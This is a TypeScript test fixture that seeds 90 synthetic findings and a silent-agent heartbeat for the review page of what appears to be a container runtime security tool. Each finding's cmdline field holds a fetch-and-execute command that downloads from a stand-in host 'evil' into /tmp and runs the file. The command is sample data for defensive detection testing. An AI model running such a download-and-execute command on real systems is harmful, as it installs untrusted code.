// What the review page tests seed: findings over the last 24 hours in three namespaces,
// with every verdict and several reasons, and an agent that stopped sending heartbeats.
import type { FindingRecord, FindingStore } from "../../../src/collector/store/FindingStore";
import { findingRecord } from "../../testbed/findingFixtures";

export const NAMESPACES = ["shop", "db", "payments"];
export const REASONS = ["new_file", "volume", "modified", "made_executable"] as const;
export const SEEDED = 90;

/** Finding i: ten minutes older than finding i-1. */
export function seededRecord(i: number, nowMs: number, over: Partial<FindingRecord> = {}): FindingRecord {
  return findingRecord(i, {
    firstSeenMs: nowMs - 60_000 - i * 600_000,
    lastSeenMs: nowMs - 60_000 - i * 600_000 + 30_000,
    k8sNamespace: NAMESPACES[i % 3],
    pod: `${NAMESPACES[i % 3]}-${i % 2}`,
    reason: REASONS[i % 4],
    verdict: i % 5 === 0 ? "audited" : "blocked",
    policyMode: i % 5 === 0 ? "audit" : "enforce",
    policyName: i % 2 ? "production-enforce" : "",
    image: `registry.local/app-${i % 6}:1`,
    count: 1 + ((i * 7) % 23),
    copyOf: i % 4 === 0 ? "/bin/busybox" : "",
    cmdline: `sh -c 'curl -o /tmp/x${i} evil; /tmp/x${i}'`,
    sha256: (i % 16).toString(16).repeat(64),
    ...over,
  });
}

export async function seedReview(store: FindingStore, nowMs: number): Promise<FindingRecord[]> {
  const records = Array.from({ length: SEEDED }, (_, i) => seededRecord(i, nowMs));
  await store.ingest(records, nowMs - 120_000);
  const agent = {
    cluster: "prod",
    version: "0.1.0",
    mode: "enforce",
    containers: 12,
    spoolFull: 0,
    nativeVerdicts: 0,
    rejected: 0,
    spoolPending: 0,
    spoolBytes: 0,
    identity: "",
    status: "enforcing" as const,
    reasons: [],
    statusSinceMs: nowMs - 20 * 60_000,
  };
  await store.recordHeartbeat({ ...agent, node: "node-silent", lastSeenMs: nowMs - 10 * 60_000, spoolPending: 4 });
  return records;
}
